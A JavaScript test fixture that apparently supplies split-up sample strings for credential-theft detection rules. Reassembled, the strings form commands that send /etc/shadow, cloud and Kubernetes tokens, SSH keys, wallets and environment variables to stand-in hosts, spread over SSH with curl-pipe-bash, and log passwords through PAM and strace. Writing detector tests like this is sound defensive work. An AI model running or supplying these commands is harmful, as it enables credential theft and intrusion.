/** Harmless samples, in pieces that only the test puts together (see ../make-samples.mjs). */
export const samples = [
  {
    rule: 'CredSteal_Mimipenguin',
    lines: [
      ["mimi", "penguin"],
      ["gc", "ore"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Shadow_Exfil',
    lines: [
      ["cu", "rl -F f=@/etc/sha", "dow http://192.0.2.7/"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Cloud_Files_Script',
    lines: [
      ["ca", "t ~/.aws/cred", "entials ~/.docker/con", "fig.json ~/.kube/con", "fig > /tmp/o"],
      ["cu", "rl -F f=@/tmp/o http://192.0.2.7/"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Imds_Token',
    lines: [
      ["C=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-cred", "entials/role)"],
      ["cu", "rl -d \"$C\" http://192.0.2.7/"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Ssh_Keys_Spread',
    lines: [
      ["K=$(find / -name id_", "rsa); H=$(cat ~/.ssh/known_", "hosts ~/.bash_", "history)"],
      ["fo", "r h in $H; do ssh -oStrictHost", "KeyChecking=no $h \"cu", "rl http://192.0.2.7/a | bash\"; done"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Kube_Service_Account',
    lines: [
      ["T=$(cat /var/run/secrets/kubernetes.io/service", "account/token)"],
      ["cu", "rl -d \"token=$T\" http://192.0.2.7/"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Pam_Keylogger_Script',
    lines: [
      ["echo \"auth optional pam_", "exec.so quiet expose_", "authtok /usr/lib/.p\" >> /etc/pa", "m.d/common-auth"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Strace_Sshd',
    lines: [
      ["str", "ace -f -e trace=rea", "d -s 64 -p $(pgrep ssh", "d) 2>&1 | gr", "ep -v x >> /tmp/.s"],
      ["#"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Browser_ELF', as: 'executable',
    lines: [
      ["logins.", "json"],
      ["key", "4.db"],
      ["encrypted", "Username"],
      ["web", "hook"],
      ["tele", "gram"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Env_Exfil_Node',
    lines: [
      ["const d = JSON.string", "ify(process.e", "nv) + require('os').host", "name();"],
      ["fet", "ch(\"https://webhook.si", "te/abc\", {method:\"POST\", body:d});"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Wallet_Files',
    lines: [
      ["find / -name wal", "let.dat -o -path '*.electrum/wal", "lets*' -o -path '*.ethereum/key", "store*'"],
      ["cu", "rl -F f=@o http://192.0.2.7/"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Proc_Environ_Sweep',
    lines: [
      ["E=$(cat /proc/*/envi", "ron | tr '\\0' '\\n' | gr", "ep -E 'AWS|SEC", "RET')"],
      ["cu", "rl -d \"$E\" http://192.0.2.7/"],
    ],
    without: 0,
  },
  {
    rule: 'CredSteal_Telegram_Exfil',
    lines: [
      ["cu", "rl \"https://api.tele", "gram.org/bot123:ABC/sendDocument\" -F d=@/etc/sha", "dow"],
      ["I=$(curl ifcon", "fig.me)"],
    ],
    without: 0,
  },
];
